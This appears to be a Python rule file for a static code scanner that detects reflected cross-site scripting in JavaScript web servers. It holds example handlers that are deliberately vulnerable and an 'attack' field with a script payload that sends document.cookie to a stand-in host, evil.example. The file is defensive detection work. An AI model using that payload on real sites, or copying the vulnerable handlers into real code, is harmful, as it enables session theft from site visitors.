"""A visitor's text given back as a page."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from vetline_analyzers.core.finding import Confidence, Severity
from vetline_analyzers.flow.rule import Arrival, FlowRule, Sink
from vetline_analyzers.syntax.around_javascript import LANGUAGES, of_browser

if TYPE_CHECKING:
    from vetline_analyzers.flow.rule import Called

_RESPONSE = re.compile(
    r"(?:this\.|ctx\.|\w+\.)?(?:_?res|resp|response|reply|httpResponse)\b(?!\.data\b|\.body\b)"
)
_PLAIN = re.compile(r"\.(?:type|json|contentType)\(\)")
_WHOLE = ("body", "query", "params", "payload")


def _is_response(called: Called) -> bool:
    return any(_RESPONSE.match(name) and not _PLAIN.search(name) for name in called.names)


def _is_context(called: Called) -> bool:
    return any(
        name in {"ctx.body", "ctx.response.body", "context.body", "this.body"}
        for name in called.names
    )


def _is_html(called: Called) -> bool:
    """Whether the headers of an answer say that it is a page."""
    headers = called.keywords.get("headers")
    kinds = (
        [v.text or "" for k, v in (headers.items or {}).items() if str(k).lower() == "content-type"]
        if headers
        else []
    )
    return any("html" in kind for kind in kinds)


def _judge(arrival: Arrival) -> bool:
    value, call = arrival.value, arrival.call
    if value.items is not None or value.rest is not None:
        return False  # sent as JSON
    taints = [t for t in value.taints if t in arrival.traced and not of_browser(t.label)]
    if not taints:
        return False
    if value.pieces is None:
        # All that a request brought is an object, and sent as one.
        if all(
            t.label.rpartition(".")[2] in _WHOLE and f"{t.label}" in value.names for t in taints
        ):
            return False
        return call is None or call.method not in {"end", "write"}
    has_tags = any(isinstance(piece, str) and "<" in piece for piece in value.pieces)
    sends_pages = (
        call is not None
        and call.method == "send"
        and not any(n.startswith("reply") for n in call.names)
    )
    return has_tags or sends_pages or arrival.sink.when is _is_html


RULE = FlowRule(
    id="javascript/reflected-html",
    title="Visitor's text given back as HTML",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(79, 80),
    page="""
What a request brought is part of the page that is sent back, and nothing escaped it. A link with a script in
it runs that script in the browser of whoever follows it, with their session. `res.send` of a text is a page.
""",
    attack="`/hello?name=<script>fetch('//evil.example/'+document.cookie)</script>` steals the session.",
    advice="Render a template, which escapes, or put the value through `escape-html`. Data is best sent with `res.json`.",
    bad=(
        'app.get("/hello", (req, res) => res.send(`<h1>Hello ${req.query.name}</h1>`));\n',
        """\
app.get("/hello", (req, res) => {
  const { name } = req.query;
  res.status(404).send("No user " + name);
});
""",
        """\
http.createServer((req, res) => {
  const name = new URL(req.url, "http://localhost").searchParams.get("name");
  res.write("<p>" + name + "</p>");
  res.end();
});
""",
        """\
router.get("/hello", async (ctx, next) => {
  ctx.body = `<b>${ctx.query.name}</b>`;
});
""",
    ),
    good=(
        'app.get("/hello", (req, res) => res.json({ name: req.query.name }));\n',
        'app.get("/hello", (req, res) => res.send({ name: req.query.name }));\n',
        """\
const escapeHtml = require("escape-html");

app.get("/hello", (req, res) => res.send(`<h1>Hello ${escapeHtml(req.query.name)}</h1>`));
""",
        """\
app.get("/item", (req, res) => {
  const id = parseInt(req.query.id, 10);
  res.send(`<p>Item ${id}</p>`);
});
""",
        """\
app.get("/hello", (req, res) => {
  res.type("text/plain").send("Hello " + req.query.name);
});
""",
    ),
    url="https://owasp.org/www-community/attacks/xss/",
    language="javascript",
    languages=LANGUAGES,
    kind="html",
    sinks=(
        Sink(methods=("send", "write", "end"), when=_is_response),
        Sink(attributes=("body",), when=_is_context),
        Sink(names=("c.html", "ctx.html", "hono/html.raw", "reply.html")),
        Sink(names=("Response", "NextResponse", "next/server.NextResponse"), when=_is_html),
    ),
    traced="{label} is given back as HTML here: a script in it runs in the visitor's browser. Escape it.",
    judge=_judge,
)
